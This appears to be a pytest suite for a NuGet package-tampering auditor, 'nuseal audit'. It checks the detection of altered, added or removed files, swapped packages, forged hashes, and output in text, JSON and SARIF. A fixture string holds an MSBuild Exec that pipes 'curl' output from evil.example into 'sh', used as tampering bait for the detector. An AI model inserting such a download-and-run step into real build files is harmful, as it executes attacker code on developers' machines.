"""``nuseal audit``: tampering after extraction is found by path (a file added, changed, removed; the .nupkg
replaced; one package's .targets rewritten), nothing is reported on a fresh install, --fix removes tampered
folders, and the CLI writes text, JSON and SARIF with exit 1 on findings."""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
from pathlib import Path

import jsonschema
import pytest

from nuseal.cli.main import main
from nuseal.client.audit import audit_folder, audit_package
from nuseal.client.gate import GateSettings
from nuseal.client.globalpackages import GlobalPackagesFolder
from nuseal.package import PackageArchive
from nuseal.trust import RevocationMode
from nuseal.verify import VerificationPolicy
from support.clock import VECTOR_NOW

from .gate_support import CODESIGN, SHARED, SOURCE, TIMESTAMP, gate_settings, make_nupkg

VECTORS = [
    SHARED / "vectors" / "nuget.org" / "Newtonsoft.Json.12.0.3.nupkg",
    SHARED / "vectors" / "nuget.org" / "system.buffers.4.4.0.nupkg",
    SHARED / "vectors" / "install-time" / "NUnit3TestAdapter.3.10.0.nupkg",
]
SARIF_SCHEMA = Path(__file__).resolve().parents[1] / "data" / "sarif-schema-2.1.0.json"
TARGETS = '<Project><Target Name="Hello" AfterTargets="Build"><Message Text="hi" /></Target></Project>\n'
EVIL_TARGETS = (
    '<Project><Target Name="Hello" AfterTargets="Build">'
    '<Exec Command="curl -s http://evil.example/x.sh | sh" /></Target></Project>\n'
)




@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A global-packages folder installed once per module (each test audits its own copy)."""
    root = tmp_path_factory.mktemp("template") / "packages"
    folder = GlobalPackagesFolder(root)
    for vector in VECTORS:
        data = vector.read_bytes()
        spec = PackageArchive.from_bytes(data).nuspec()
        folder.install(data, package_id=spec.id, version=spec.version, source=SOURCE, gate=gate_settings(),
                       now=VECTOR_NOW)
    data = make_nupkg("Contoso.Build", "2.0.0", {"build/Contoso.Build.targets": TARGETS, "lib/net8.0/a.txt": "a"})
    folder.install(data, package_id="Contoso.Build", version="2.0.0", source=SOURCE, gate=gate_settings(),
                   now=VECTOR_NOW)
    return root


@pytest.fixture
def gpf(template: Path, tmp_path: Path) -> Path:
    root = tmp_path / "packages"
    shutil.copytree(template, root, symlinks=True)
    return root


def found(root: Path) -> dict[str, set[tuple[str, str | None]]]:
    """Per version folder name ``<id>/<version>``: the (rule, path) pairs the audit reports."""
    out: dict[str, set[tuple[str, str | None]]] = {}
    for a in audit_folder(root, gate_settings(), jobs=1, now=VECTOR_NOW):
        key = a.folder.relative_to(root).as_posix()
        out[key] = {(f.rule_id, f.location.path) for f in a.report.findings}
    return out


def test_nothing_on_a_fresh_install(gpf: Path) -> None:
    result = found(gpf)
    assert len(result) == len(VECTORS) + 1
    assert all(v == set() for v in result.values()), result


def test_file_added_changed_and_removed_are_reported_by_path(gpf: Path) -> None:
    folder = gpf / "newtonsoft.json" / "12.0.3"
    (folder / "lib" / "net45" / "extra.dll").write_bytes(b"MZ not from the package")
    changed = folder / "lib" / "netstandard2.0" / "Newtonsoft.Json.xml"
    text = changed.read_bytes()
    changed.write_bytes(text[:100] + b"X" + text[101:])  # same size, one byte differs
    (folder / "LICENSE.md").unlink()
    result = found(gpf)
    assert result["newtonsoft.json/12.0.3"] == {
        ("NA1003", "lib/net45/extra.dll"),
        ("NA1004", "lib/netstandard2.0/Newtonsoft.Json.xml"),
        ("NA1005", "LICENSE.md"),
    }
    assert all(v == set() for k, v in result.items() if k != "newtonsoft.json/12.0.3")


def test_replaced_nupkg_is_reported(gpf: Path) -> None:
    folder = gpf / "system.buffers" / "4.4.0"
    other = make_nupkg("System.Buffers", "4.4.0", {"lib/netstandard2.0/System.Buffers.dll": "not the real one"})
    (folder / "system.buffers.4.4.0.nupkg").write_bytes(other)
    rules = {r for r, _ in found(gpf)["system.buffers/4.4.0"]}
    # the .sha512 and .nupkg.metadata no longer match, and the files on disk are not the new .nupkg's
    assert {"NA1001", "NA1002", "NA1004"} <= rules


def test_replaced_nupkg_with_matching_sha512_still_fails_metadata_and_signature(gpf: Path) -> None:
    """An attacker who rewrites the .sha512 too is still caught by .nupkg.metadata's content hash."""
    folder = gpf / "system.buffers" / "4.4.0"
    data = bytearray((folder / "system.buffers.4.4.0.nupkg").read_bytes())
    rec = max(PackageArchive.from_bytes(bytes(data)).records, key=lambda r: r.compressed_size)
    data[rec.local_header_offset + 100] ^= 0xFF
    (folder / "system.buffers.4.4.0.nupkg").write_bytes(bytes(data))
    (folder / "system.buffers.4.4.0.nupkg.sha512").write_bytes(base64.b64encode(hashlib.sha512(bytes(data)).digest()))
    result = found(gpf)["system.buffers/4.4.0"]
    rules = {r for r, _ in result}
    assert "NA1001" not in rules and {"NA1002", "NA2001"} <= rules


def test_targets_of_one_package_rewritten_by_another(gpf: Path) -> None:
    """The cross-package case: a build step of one package rewrites another package's .targets."""
    target = gpf / "contoso.build" / "2.0.0" / "build" / "Contoso.Build.targets"
    target.write_text(EVIL_TARGETS)
    result = found(gpf)
    contoso = result["contoso.build/2.0.0"]
    assert ("NA1004", "build/Contoso.Build.targets") in contoso
    # the scan reruns over what is on disk: the download-and-run Exec is reported too
    assert any(rule.startswith("NS2") and path == "build/Contoso.Build.targets" for rule, path in contoso)
    assert all(v == set() for k, v in result.items() if k != "contoso.build/2.0.0")


def test_interrupted_extraction_and_fix(gpf: Path) -> None:
    (gpf / "contoso.build" / "2.0.0" / ".nupkg.metadata").unlink()
    (gpf / "newtonsoft.json" / "12.0.3" / "README.injected").write_text("x")
    audits = audit_folder(gpf, gate_settings(), fix=True, jobs=1, now=VECTOR_NOW)
    fixed = {a.folder.relative_to(gpf).as_posix() for a in audits if a.fixed}
    assert fixed == {"contoso.build/2.0.0", "newtonsoft.json/12.0.3"}
    assert not (gpf / "contoso.build").exists() and not (gpf / "newtonsoft.json").exists()
    assert (gpf / "system.buffers" / "4.4.0").is_dir()
    assert all(v == set() for v in found(gpf).values())


def test_signature_under_require_without_trusted_signer(gpf: Path) -> None:
    require = GateSettings(
        policy=VerificationPolicy.require(revocation_mode=RevocationMode.OFFLINE),
        code_signing_roots=CODESIGN,
        timestamping_roots=TIMESTAMP,
        scan=False,
    )
    audit = audit_package(gpf / "system.buffers" / "4.4.0", require, now=VECTOR_NOW)
    assert [f.rule_id for f in audit.report.findings] == ["NA2001"]
    assert "NU3034" in audit.report.findings[0].message and not audit.tampered


def test_parallel_audit_gives_the_same_results(gpf: Path) -> None:
    (gpf / "newtonsoft.json" / "12.0.3" / "LICENSE.md").unlink()
    one = [(a.folder, [f.rule_id for f in a.report.findings]) for a in audit_folder(gpf, gate_settings(), jobs=1,
                                                                                    now=VECTOR_NOW)]
    two = [(a.folder, [f.rule_id for f in a.report.findings]) for a in audit_folder(gpf, gate_settings(), jobs=2,
                                                                                    now=VECTOR_NOW)]
    assert one == two and any(rules for _, rules in one)


def _cli(gpf: Path, *extra: str) -> list[str]:
    return [
        "audit",
        str(gpf),
        "--revocation-mode",
        "offline",
        "--code-signing-roots",
        CODESIGN,
        "--timestamping-roots",
        TIMESTAMP,
        "--configfile",
        str(gpf.parent / "nuget.config"),
        *extra,
    ]


def test_cli_text_json_sarif_and_exit_codes(gpf: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (gpf.parent / "nuget.config").write_text("<configuration />")
    assert main(_cli(gpf)) == 0
    assert "Audited 4 packages: 0 errors" in capsys.readouterr().out
    (gpf / "contoso.build" / "2.0.0" / "build" / "Contoso.Build.targets").write_text(EVIL_TARGETS)
    assert main(_cli(gpf)) == 1
    out = capsys.readouterr().out
    assert "NA1004" in out and "build/Contoso.Build.targets" in out
    assert main(_cli(gpf, "--format", "json")) == 1
    doc = json.loads(capsys.readouterr().out)
    assert doc["audit"]["tampered"] == [str(gpf / "contoso.build" / "2.0.0")]
    contoso = next(p for p in doc["packages"] if p["id"] == "Contoso.Build")
    assert {"NA1004"} <= {f["rule"] for f in contoso["findings"]}
    assert main(_cli(gpf, "--format", "sarif")) == 1
    sarif = json.loads(capsys.readouterr().out)
    jsonschema.validate(sarif, json.loads(SARIF_SCHEMA.read_text()))
    assert "NA1004" in {r["ruleId"] for r in sarif["runs"][0]["results"]}
    assert main(_cli(gpf, "--fix")) == 1
    assert "removed" in capsys.readouterr().out
    assert main(_cli(gpf)) == 0


def test_cli_default_folder_from_nuget_packages(gpf: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NUGET_PACKAGES", str(gpf))
    monkeypatch.chdir(gpf.parent)
    (gpf.parent / "nuget.config").write_text("<configuration />")
    shutil.rmtree(gpf / "newtonsoft.json" / "12.0.3" / "lib" / "net20")
    assert (
        main(
            [
                "audit",
                "--revocation-mode",
                "offline",
                "--code-signing-roots",
                CODESIGN,
                "--timestamping-roots",
                TIMESTAMP,
            ]
        )
        == 1
    )
    assert main(["audit", str(gpf.parent / "missing")]) == 2


def test_folder_swapped_for_another_signed_package(gpf: Path) -> None:
    """A genuinely signed package with its own matching .sha512 and .nupkg.metadata, put in another package's
    folder: only the identity check sees it."""
    victim = gpf / "system.buffers" / "4.4.0"
    shutil.rmtree(victim)
    shutil.copytree(gpf / "newtonsoft.json" / "12.0.3", victim)
    for name in ("newtonsoft.json.12.0.3.nupkg", "newtonsoft.json.12.0.3.nupkg.sha512"):
        (victim / name).rename(victim / name.replace("newtonsoft.json.12.0.3", "system.buffers.4.4.0"))
    (victim / "newtonsoft.json.nuspec").rename(victim / "system.buffers.nuspec")
    assert ("NA1009", "system.buffers.4.4.0.nupkg") in found(gpf)["system.buffers/4.4.0"]


def test_cli_default_folder_from_nuget_config(gpf: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("NUGET_PACKAGES", raising=False)
    monkeypatch.setenv("HOME", str(gpf.parent))
    monkeypatch.chdir(gpf.parent)
    (gpf.parent / "nuget.config").write_text(
        f'<configuration><config><add key="globalPackagesFolder" value="{gpf.name}" /></config></configuration>'
    )
    (gpf / "system.buffers" / "4.4.0" / "LICENSE.TXT").write_text("changed")
    args = [
        "audit",
        "--revocation-mode",
        "offline",
        "--code-signing-roots",
        CODESIGN,
        "--timestamping-roots",
        TIMESTAMP,
    ]
    assert main([*args, "--format", "json"]) == 1
